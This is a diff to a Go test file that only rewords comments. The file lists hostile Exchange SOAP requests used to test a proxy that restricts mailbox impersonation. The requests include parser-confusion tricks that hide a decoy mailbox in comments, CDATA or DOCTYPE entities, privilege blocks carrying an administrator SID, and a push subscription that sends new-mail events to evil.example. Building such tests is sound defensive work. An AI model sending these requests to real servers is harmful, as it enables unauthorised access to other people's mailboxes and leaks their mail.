@@ -14,9 +14,9 @@ import (
 type hostileRequest struct {
 	name   string
 	body   string
-	header http.Header // in addition
-	path   string      // "": the endpoint
-	host   string      // "": localhost
+	header http.Header // additional headers
+	path   string      // path of the request; "" means the endpoint
+	host   string      // Host of the request; "" means localhost
 }
 
 // Parts of documents. Letters before a colon are prefixes that the envelope
@@ -39,13 +39,13 @@ func document(header, operation string) string {
 	return `<?xml version="1.0" encoding="utf-8"?><soap:Envelope ` + declarations + `><soap:Header>` + header + `</soap:Header><soap:Body>` + operation + `</soap:Body></soap:Envelope>`
 }
 
-// impersonating returns a header block that names a mailbox by that content of
-// ConnectingSID.
+// impersonating returns a header block that names a mailbox with the given
+// content of ConnectingSID.
 func impersonating(content string) string {
 	return `<t:ExchangeImpersonation><t:ConnectingSID>` + content + `</t:ConnectingSID></t:ExchangeImpersonation>`
 }
 
-// hostileRequests returns the requests that every inspecting peer is tried with.
+// hostileRequests returns the requests that are sent to every inspecting peer.
 func hostileRequests() []hostileRequest {
 	body := func(name, header string) hostileRequest {
 		return hostileRequest{name: name, body: document(header, getFolder)}
@@ -64,7 +64,8 @@ func hostileRequests() []hostileRequest {
 		raw("nobody", document("", getFolder)),
 		raw("no header", strings.Replace(document("", getFolder), "<soap:Header></soap:Header>", "", 1)),
 
-		// The allowed mailbox stands where a search finds it and Exchange does not look.
+		// The allowed mailbox is at a place where a text search finds it but
+		// Exchange does not read it.
 		body("decoy in a comment", "<!-- "+decoy+" -->"+forCEO),
 		body("decoy in CDATA", `<x:Note xmlns:x="urn:x"><![CDATA[`+decoy+`]]></x:Note>`+forCEO),
 		body("decoy in a foreign namespace", `<t:ExchangeImpersonation xmlns:t="urn:x">`+decoy+`</t:ExchangeImpersonation>`+forCEO),
@@ -77,7 +78,7 @@ func hostileRequests() []hostileRequest {
 		raw("header after the body", `<soap:Envelope `+declarations+`><soap:Body>`+getFolder+`</soap:Body><soap:Header>`+forAlice+`</soap:Header></soap:Envelope>`),
 		raw("envelope in the operation", document(forAlice, "<m:GetFolder>"+plain[strings.Index(plain, "<soap:Envelope"):]+"</m:GetFolder>")),
 
-		// Two statements about who is impersonated.
+		// The document names two mailboxes to impersonate.
 		body("two impersonations", forAlice+forCEO),
 		body("two impersonations, the other order", forCEO+forAlice),
 		body("two ConnectingSIDs", `<t:ExchangeImpersonation>`+decoy+strings.ReplaceAll(decoy, alice, foreign)+`</t:ExchangeImpersonation>`),
@@ -86,7 +87,7 @@ func hostileRequests() []hostileRequest {
 		body("a SID alone", impersonating(`<t:SID>S-1-5-21-1-2-3-500</t:SID>`)),
 		body("nested impersonation", `<t:ExchangeImpersonation>`+decoy+forCEO+`</t:ExchangeImpersonation>`),
 
-		// The address is something else than the text between two tags.
+		// The address differs from the text between two tags.
 		body("comment in the address", impersonating(`<t:SmtpAddress>`+alice+`<!-- --></t:SmtpAddress>`)),
 		body("comment cuts the address", impersonating(`<t:SmtpAddress>`+alice+`<!-- -->.evil.example</t:SmtpAddress>`)),
 		body("address in CDATA", impersonating(`<t:SmtpAddress><![CDATA[`+foreign+`]]></t:SmtpAddress>`)),
@@ -97,21 +98,22 @@ func hostileRequests() []hostileRequest {
 		body("other prefixes", strings.Replace(strings.ReplaceAll(forCEO, "t:", "q:"), "<q:ExchangeImpersonation", `<q:ExchangeImpersonation xmlns:q="`+types+`"`, 1)),
 		body("default namespace", strings.NewReplacer("<t:ExchangeImpersonation", `<ExchangeImpersonation xmlns="`+types+`"`, "t:", "").Replace(forCEO)),
 
-		// Blocks that change whom Exchange acts as, or that it must understand.
+		// Blocks that change the user for whom Exchange acts, or that Exchange
+		// must understand.
 		body("SerializedSecurityContext", forAlice+`<t:SerializedSecurityContext><t:UserSid>S-1-5-21-1-2-3-500</t:UserSid></t:SerializedSecurityContext>`),
 		body("OpenAsAdminOrSystemService", forAlice+`<t:OpenAsAdminOrSystemService LogonType="Admin"><t:ConnectingSID><t:SmtpAddress>`+foreign+`</t:SmtpAddress></t:ConnectingSID></t:OpenAsAdminOrSystemService>`),
 		body("ManagementRole", forAlice+`<t:ManagementRole><t:UserRoles><t:Role>MailboxSearch</t:Role></t:UserRoles></t:ManagementRole>`),
 		body("an unknown block of Exchange's", forAlice+`<t:ProxySecurityContext>AA==</t:ProxySecurityContext>`),
 		body("WS-Security that must be understood", forAlice+`<w:Security xmlns:w="http://docs.oasis-open.org/wss/2004/01/oasis-200401-wss-wssecurity-secext-1.0.xsd" soap:mustUnderstand="1"/>`),
 
-		// Operations that leave the mailbox.
+		// Operations that act beyond the mailbox.
 		operation("two operations", getFolder+getFolder),
 		operation("SearchMailboxes", `<m:SearchMailboxes><m:SearchQueries/><m:ResultType>StatisticsOnly</m:ResultType></m:SearchMailboxes>`),
 		operation("AddDelegate", `<m:AddDelegate><m:Mailbox><t:EmailAddress>`+alice+`</t:EmailAddress></m:Mailbox><m:DelegateUsers/></m:AddDelegate>`),
 		operation("ExecuteDiagnosticMethod", `<m:ExecuteDiagnosticMethod><m:Verb>ClearCache</m:Verb></m:ExecuteDiagnosticMethod>`),
 		operation("push subscription", `<m:Subscribe><m:PushSubscriptionRequest SubscribeToAllFolders="true"><t:EventTypes><t:EventType>NewMailEvent</t:EventType></t:EventTypes><t:StatusFrequency>1</t:StatusFrequency><t:URL>http://evil.example/</t:URL></m:PushSubscriptionRequest></m:Subscribe>`),
 
-		// Documents that two readers read differently.
+		// Documents in which two readers find different values.
 		raw("entity from a DOCTYPE", `<!DOCTYPE s [<!ENTITY a "`+foreign+`">]>`+strings.Replace(plain[strings.Index(plain, "<soap:Envelope"):], foreign, "&a;", 1)),
 		raw("DOCTYPE", `<!DOCTYPE s>`+document(forAlice, getFolder)[len(`<?xml version="1.0" encoding="utf-8"?>`):]),
 		raw("processing instruction", strings.Replace(document(forAlice, getFolder), "<soap:Envelope", "<?x y?><soap:Envelope", 1)),
